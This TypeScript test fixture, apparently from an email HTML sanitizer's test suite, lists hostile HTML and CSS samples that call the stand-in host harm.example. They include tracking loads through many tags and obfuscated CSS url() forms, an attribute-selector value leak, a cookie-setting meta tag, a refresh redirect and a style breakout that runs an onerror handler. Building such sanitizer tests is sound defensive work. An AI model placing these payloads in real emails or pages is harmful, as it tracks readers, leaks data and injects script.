import { HARM } from './mail-case.ts'

const harm = (name: string) => `${HARM}('${name}')`
const HARM_URL = 'https://harm.example'

/**
 * Names and content of hostile HTML that requests something from another host, reveals that the email was read, sets a
 * cookie, or breaks out of its styles.
 */
export const hostileLoads: readonly [string, string][] = [
  ['load-input-image', `<input type="image" src="${HARM_URL}/i.png">`],
  [
    'load-picture-source',
    `<picture><source srcset="${HARM_URL}/s.png 1x, ${HARM_URL}/s2.png 2x"><img src="x"></picture>`,
  ],
  ['load-video-poster', `<video poster="${HARM_URL}/v.png" autoplay src="${HARM_URL}/v.mp4"></video>`],
  ['load-audio', `<audio autoplay src="${HARM_URL}/a.mp3"></audio>`],
  ['load-track', `<video><track default src="${HARM_URL}/t.vtt"></video>`],
  ['load-object', `<object data="${HARM_URL}/o.swf" type="application/x-shockwave-flash"></object>`],
  ['load-embed', `<embed src="${HARM_URL}/e.pdf">`],
  ['load-frame', `<iframe src="${HARM_URL}/f.html"></iframe>`],
  [
    'load-portal',
    `<portal src="${HARM_URL}/p.html"></portal><fencedframe src="${HARM_URL}/q.html"></fencedframe>`,
  ],
  [
    'load-prefetch',
    `<link rel="prefetch" href="${HARM_URL}/1"><link rel="preload" as="image" href="${HARM_URL}/2">`,
  ],
  ['load-dns', `<link rel="dns-prefetch" href="//harm.example"><link rel="preconnect" href="${HARM_URL}">`],
  [
    'load-module',
    `<link rel="modulepreload" href="${HARM_URL}/m.js"><link rel="manifest" href="${HARM_URL}/m.json">`,
  ],
  [
    'load-icon',
    `<link rel="icon" href="${HARM_URL}/i.ico"><link rel="shortcut icon" href="${HARM_URL}/j.ico">`,
  ],
  ['load-protocol-relative', `<img src="//harm.example/r.png"><a href="//harm.example/">press</a>`],
  ['load-backslashes', `<img src="\\\\harm.example\\r.png"><img src="https:\\\\harm.example\\s.png">`],
  ['load-body-background', `<body background="${HARM_URL}/b.png">`],
  [
    'load-cell-background',
    `<table><tr background="${HARM_URL}/r.png"><td background="${HARM_URL}/d.png">t</td></tr></table>`,
  ],
  ['load-image-alias', `<image src="${HARM_URL}/image.png">`],
  [
    'load-low-source',
    `<img lowsrc="${HARM_URL}/l.png" dynsrc="${HARM_URL}/d.avi" longdesc="${HARM_URL}/long">`,
  ],
  ['load-bgsound', `<bgsound src="${HARM_URL}/b.mid">`],
  ['load-layer', `<layer src="${HARM_URL}/l.html"></layer><ilayer src="${HARM_URL}/i.html"></ilayer>`],
  [
    'load-xml',
    `<xml src="${HARM_URL}/x.xml" id="i"></xml><b datasrc="#i" datafld="c" dataformatas="html"></b>`,
  ],
  [
    'load-attribution',
    `<img src="x" attributionsrc="${HARM_URL}/a"><a href="#" attributionsrc="${HARM_URL}/b">press</a>`,
  ],
  ['load-ping', `<a href="#" ping="${HARM_URL}/ping">press</a>`],
  [
    'load-report',
    `<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri ${HARM_URL}/r">`,
  ],
  ['load-refresh', `<meta http-equiv="refresh" content="0; url=${HARM_URL}/refresh">`],
  ['load-refresh-quoted', `<META HTTP-EQUIV=Refresh CONTENT=" 0 ;URL='${HARM_URL}/quoted'">`],
  ['load-cookie', `<meta http-equiv="Set-Cookie" content="enamel_session=stolen">`],
  ['css-cursor', `<div style="cursor:url(${HARM_URL}/c.cur),auto">c</div>`],
  ['css-list', `<ul style="list-style:url(${HARM_URL}/l.png)"><li>l</li></ul>`],
  ['css-content', `<style>p::before{content:url(${HARM_URL}/c.png)}</style>`],
  ['css-border-image', `<div style="border-image:url(${HARM_URL}/b.png) 30">b</div>`],
  ['css-mask', `<div style="mask:url(${HARM_URL}/m.svg#m);clip-path:url(${HARM_URL}/p.svg#p)">m</div>`],
  ['css-filter', `<div style="filter:url(${HARM_URL}/f.svg#f)">f</div>`],
  [
    'css-image-set',
    `<div style="background:image-set('${HARM_URL}/1x.png' 1x, '${HARM_URL}/2x.png' 2x)">i</div>`,
  ],
  [
    'css-cross-fade',
    `<div style="background:-webkit-cross-fade(url(${HARM_URL}/1.png),url(${HARM_URL}/2.png),50%)">x</div>`,
  ],
  ['css-src', `<div style="background:src('${HARM_URL}/s.png')">s</div>`],
  ['css-custom', `<div style="--x:url(${HARM_URL}/x.png);background:var(--x)">v</div>`],
  ['css-escaped', `<div style="background:\\75\\72\\6c(${HARM_URL}/e.png)">e</div>`],
  [
    'css-comment',
    `<div style="background:u/**/rl(${HARM_URL}/c.png);background:url(/**/${HARM_URL}/d.png)">c</div>`,
  ],
  ['css-entities', `<div style="background:&#117;rl(&quot;${HARM_URL}/n.png&quot;)">n</div>`],
  ['css-font', `<style>@font-face{font-family:f;src:url(${HARM_URL}/f.woff2)}p{font-family:f}</style>`],
  [
    'css-import',
    `<style>@\\69mport '${HARM_URL}/i.css';</style><style>@import url(//harm.example/j.css) screen;</style>`,
  ],
  [
    'css-import-charset',
    `<style>@charset "utf-7"; @namespace "${HARM_URL}/n"; @import"${HARM_URL}/k.css"</style>`,
  ],
  ['css-attribute-leak', `<style>input[value^=a]{background:url(${HARM_URL}/a)}</style><input value=abc>`],
  [
    'css-layout',
    `<style>*{display:none!important}@page{margin:0}html{background:url(${HARM_URL}/h.png)}</style>`,
  ],
  [
    'css-breaks-out',
    `<div style="color:red}</style><img src=x onerror=${harm('css-breaks-out')}><style>x{">b</div>`,
  ],
  [
    'css-svg-use',
    `<svg><use href="${HARM_URL}/u.svg#u"/><image href="${HARM_URL}/i.png" width=9 height=9 /></svg>`,
  ],
  [
    'css-svg-filter',
    `<svg><filter id=f><feImage href="${HARM_URL}/f.png"/></filter><rect filter="url(#f)"/></svg>`,
  ],
  [
    'css-svg-style',
    `<svg><style>@import '${HARM_URL}/s.css';*{fill:url(${HARM_URL}/p.svg#p)}</style><rect/></svg>`,
  ],
]
